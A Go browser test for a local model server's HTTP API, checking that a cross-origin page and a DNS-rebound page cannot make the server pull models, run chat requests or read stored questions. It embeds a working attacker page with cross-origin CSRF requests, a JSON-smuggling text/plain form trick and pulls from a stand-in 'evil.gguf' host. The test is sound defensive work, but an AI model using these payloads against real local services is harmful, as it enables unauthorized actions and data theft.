package httpapi

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/geisten/geist/engine/appliance"
	"github.com/geisten/geist/engine/appliance/appliancetest"
)

// countingStore is a model store that counts the pulls that reach it.
type countingStore struct{ pulls atomic.Int64 }

func (c *countingStore) Get(string) (Model, bool, error) { return Model{}, false, nil }
func (c *countingStore) Pull(ctx context.Context, src string, progress func(PullProgress)) error {
	c.pulls.Add(1)
	return nil
}

// serveOn serves h on addr (127.0.0.x:0) until the test ends.
func serveOn(t *testing.T, addr string, h http.Handler) string {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: h}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return ln.Addr().String()
}

// The browser boundary in a real browser (issue 22, item 1): a page of
// another origin (127.0.0.2) and a page at a rebound name (evil.example
// resolving to geist's 127.0.0.1) attack a geist that was started with a
// token, with the texts of its requests shown on its page, as the review
// did. Neither may pull, ask, or read the stored questions.
func TestBrowserBoundary(t *testing.T) {
	bctx := statusBrowser(t, chromedp.Flag("host-resolver-rules", "MAP evil.example 127.0.0.1"))
	eng := &appliancetest.Engine{Words: 3}
	core := statusCore(t, eng, true)
	tk, err := core.Submit(context.Background(), appliance.Request{Source: appliance.SourceMQTT, Text: "the secret question"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	<-tk.Done()
	asked := len(eng.Requests())
	store := &countingStore{}
	web, err := New(Config{Core: core, Model: Model{Name: "tiny"}, Store: store, Token: "s3cret", Logger: statusLogger()})
	if err != nil {
		t.Fatal(err)
	}
	NewStatusPage(StatusConfig{ShowText: true, Tick: 50 * time.Millisecond}, core).Register(web)
	gaddr := serveOn(t, "127.0.0.1:0", web.Handler())
	_, gport, _ := net.SplitHostPort(gaddr)

	// The attacker's page, at another origin: simple requests (no
	// preflight: text/plain, a form) and a JSON one (preflighted).
	attack := fmt.Sprintf(`<!doctype html><title>attack</title><script>
(async () => {
  const g = "http://%s", out = [];
  const pull = JSON.stringify({model: "http://127.0.0.2:1/evil.gguf"});
  const ask = JSON.stringify({model: "tiny", messages: [{role: "user", content: "from the attacker"}]});
  for (const [path, type, body] of [["/api/pull", "text/plain", pull], ["/api/chat", "text/plain", ask],
      ["/api/generate", "application/x-www-form-urlencoded", JSON.stringify({model: "tiny", prompt: "x"})]]) {
    try { await fetch(g + path, {method: "POST", mode: "no-cors", headers: {"Content-Type": type}, body}); out.push(path + " sent"); }
    catch (e) { out.push(path + " " + e); }
  }
  try { const r = await fetch(g + "/api/pull", {method: "POST", headers: {"Content-Type": "application/json"}, body: pull}); out.push("json pull " + r.status); }
  catch (e) { out.push("json pull refused"); }
  try { const r = await fetch(g + "/api/geist/events?text=1"); out.push("feed read " + r.status); }
  catch (e) { out.push("feed refused"); }
  const sink = document.createElement("iframe"); sink.name = "sink"; document.body.appendChild(sink);
  const f = document.createElement("form"); f.method = "POST"; f.target = "sink"; f.action = g + "/api/pull"; f.enctype = "text/plain";
  const i = document.createElement("input"); i.name = '{"model":"http://127.0.0.2:1/x.gguf","a":"'; i.value = '"}'; f.appendChild(i);
  document.body.appendChild(f);
  f.submit();
  await new Promise(r => sink.onload = r);
  out.push("form posted");
  document.title = "done: " + out.join("; ");
})();
</script>`, gaddr)
	aaddr := serveOn(t, "127.0.0.2:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte(attack))
	}))

	tab, cancel := chromedp.NewContext(bctx)
	defer cancel()
	ctx, tcancel := context.WithTimeout(tab, 30*time.Second)
	defer tcancel()
	eval := func(expr string) string {
		t.Helper()
		v, err := chromedp.Run(ctx, chromedp.Evaluate[string](expr, chromedp.EvalAwaitPromise))
		if err != nil {
			t.Fatalf("%s: %v", expr, err)
		}
		return v
	}

	t.Run("cross-origin", func(t *testing.T) {
		if err := chromedp.Do(ctx, chromedp.Navigate("http://"+aaddr+"/")); err != nil {
			t.Fatal(err)
		}
		if _, err := chromedp.Run(ctx, chromedp.Poll[bool](`document.title.startsWith("done")`, chromedp.WithPollingInterval(10*time.Millisecond))); err != nil {
			t.Fatal(err)
		}
		title := eval(`Promise.resolve(document.title)`)
		time.Sleep(500 * time.Millisecond) // the form's navigation
		if n := store.pulls.Load(); n != 0 {
			t.Errorf("a page at another origin made geist pull %d times (%s)", n, title)
		}
		if n := len(eng.Requests()) - asked; n != 0 {
			t.Errorf("a page at another origin asked the model %d times (%s)", n, title)
		}
		if strings.Contains(title, "feed read 200") || strings.Contains(title, "json pull 200") {
			t.Errorf("a page at another origin read geist's answers: %s", title)
		}
		t.Logf("the attacker's page: %s; pulls %d, asks %d", title, store.pulls.Load(), len(eng.Requests())-asked)
	})

	t.Run("rebinding", func(t *testing.T) {
		// evil.example now resolves to 127.0.0.1: the page at
		// http://evil.example:PORT is same-origin with geist's port.
		if err := chromedp.Do(ctx, chromedp.Navigate("http://evil.example:"+gport+"/")); err != nil {
			t.Fatal(err)
		}
		feed := eval(`(async () => {
  const r = await fetch("/api/geist/events?text=1");
  if (!r.ok) return "status " + r.status + " " + await r.text();
  const rd = r.body.getReader(); let s = "";
  while (s.length < 20000 && !s.includes("event: recent")) { const {value, done} = await rd.read(); if (done) break; s += new TextDecoder().decode(value); }
  while (!s.includes("\n\n", s.indexOf("event: recent"))) { const {value, done} = await rd.read(); if (done) break; s += new TextDecoder().decode(value); }
  rd.cancel(); return s;
})()`)
		if strings.Contains(feed, "the secret question") {
			t.Errorf("a rebound page read the stored questions: %.300s", feed)
		}
		if !strings.Contains(feed, "status 403") {
			t.Errorf("a rebound page's feed: %.300s, want 403", feed)
		}
		pull := eval(`fetch("/api/pull", {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify({model: "http://127.0.0.2:1/evil.gguf"})}).then(r => "status " + r.status)`)
		if n := store.pulls.Load(); n != 0 || pull != "status 403" {
			t.Errorf("a rebound page's pull: %s, %d pulls", pull, n)
		}
		t.Logf("rebound page: feed %.120q; pull %s", feed, pull)
	})

	// Geist's own page still works: the same browser, the right origin.
	t.Run("own page", func(t *testing.T) {
		if err := chromedp.Do(ctx, chromedp.Navigate("http://"+gaddr+"/")); err != nil {
			t.Fatal(err)
		}
		got := eval(`fetch("/api/chat", {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify({model: "tiny", stream: false, messages: [{role: "user", content: "hi"}]})}).then(r => "status " + r.status)`)
		if got != "status 200" {
			t.Errorf("geist's own page's chat: %s", got)
		}
		got = eval(`fetch("/api/geist/events?text=1").then(r => { const s = "status " + r.status; r.body.cancel(); return s; })`)
		if got != "status 200" {
			t.Errorf("geist's own page's feed: %s", got)
		}
	})
}
